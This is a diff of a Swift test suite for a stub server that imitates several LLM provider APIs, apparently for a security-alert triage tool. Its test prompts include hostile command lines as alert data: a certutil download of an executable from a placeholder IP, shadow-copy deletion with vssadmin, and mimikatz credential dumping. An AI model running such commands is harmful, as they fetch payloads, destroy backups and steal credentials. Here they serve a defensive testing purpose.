@@ -63,13 +63,13 @@ struct RouteCase: Sendable, CustomTestStringConvertible {
     ]
 }
 
-@Suite("llm-stub routes")
+@Suite("llm-stub routes", .boundedResources)
 struct StubRoutesTests {
     static let prompt = "Alert: process.command_line = certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe"
 
     @Test("every route answers the heuristic verdict in its own format, with token usage", arguments: RouteCase.all)
     func answersHeuristic(route: RouteCase) async throws {
-        let stub = try StubServer()
+        let stub = try await StubServer()
         let response = try await stub.post(route.path, json: route.request(Self.prompt))
         #expect(response.status == 200)
         #expect(response.headers["content-type"] == "application/json")
@@ -85,7 +85,7 @@ struct StubRoutesTests {
 
     @Test("every route answers a --answer text: literal", arguments: RouteCase.all)
     func textAnswer(route: RouteCase) async throws {
-        let stub = try StubServer(["--answer", "text:verdict=FP confidence=0.12 summary=benign \"quoted\" \\ text"])
+        let stub = try await StubServer(["--answer", "text:verdict=FP confidence=0.12 summary=benign \"quoted\" \\ text"])
         let response = try await stub.post(route.path, json: route.request("anything at all"))
         #expect(response.status == 200)
         #expect(route.answer(in: decoded(response)) == "verdict=FP confidence=0.12 summary=benign \"quoted\" \\ text")
@@ -93,7 +93,7 @@ struct StubRoutesTests {
 
     @Test("a request without a prompt is a 400 in the provider's error format", arguments: RouteCase.all)
     func missingPrompt(route: RouteCase) async throws {
-        let stub = try StubServer()
+        let stub = try await StubServer()
         let response = try await stub.post(route.path, json: ["model": "m", "messages": [["role": "system", "content": "only a system"]]])
         #expect(response.status == 400)
         let body = decoded(response)
@@ -105,7 +105,7 @@ struct StubRoutesTests {
 
     @Test("responses mirror provider shapes: model echo, Azure filters, Bedrock error type, Ollama done")
     func providerSpecificFields() async throws {
-        let stub = try StubServer(["--answer", "text:ok"])
+        let stub = try await StubServer(["--answer", "text:ok"])
         let azure = decoded(try await stub.post(
             "/openai/deployments/triage-gpt4o/chat/completions?api-version=2024-10-21", json: ["messages": [["role": "user", "content": "p"]]]
         ))
@@ -139,7 +139,7 @@ struct StubRoutesTests {
 
     @Test("Elastic inference answers one result per input, in order")
     func elasticInferenceBatch() async throws {
-        let stub = try StubServer()
+        let stub = try await StubServer()
         let prompts = ["vssadmin delete shadows /all /quiet", "notepad.exe readme.txt", "mimikatz sekurlsa::logonpasswords"]
         let body = decoded(try await stub.post("/_inference/completion/triage", json: ["input": prompts]))
         let results = try #require(json(body, "completion") as? [[String: Any]])
@@ -148,7 +148,7 @@ struct StubRoutesTests {
 
     @Test("/requests records method, path, query, lowercased headers and the raw body")
     func requestRecording() async throws {
-        let stub = try StubServer(["--answer", "text:ok"])
+        let stub = try await StubServer(["--answer", "text:ok"])
         let body = Data(#"{"messages":[{"role":"user","content":"héllo \"world\""}],"model":"m"}"#.utf8)
         _ = try await stub.send("POST", "/openai/deployments/dep-1/chat/completions?api-version=2024-10-21", body: body,
                                 headers: ["api-key": "secret-123", "X-Custom-Thing": "Value"])
@@ -168,7 +168,7 @@ struct StubRoutesTests {
 
     @Test("/stats counts model-route requests by status; /reset clears stats and requests")
     func statsAndReset() async throws {
-        let stub = try StubServer(["--answer", "text:ok"])
+        let stub = try await StubServer(["--answer", "text:ok"])
         for _ in 0..<3 {
             #expect(try await stub.post("/v1/messages", json: ["messages": [["role": "user", "content": "p"]]]).status == 200)
         }
@@ -183,7 +183,7 @@ struct StubRoutesTests {
 
     @Test("/requests keeps only the last 200 requests, oldest first")
     func requestLogCapacity() async throws {
-        let stub = try StubServer(["--answer", "text:ok"])
+        let stub = try await StubServer(["--answer", "text:ok"])
         for index in 0..<205 {
             _ = try await stub.post("/api/chat", json: ["messages": [["role": "user", "content": "prompt \(index)"]]])
         }
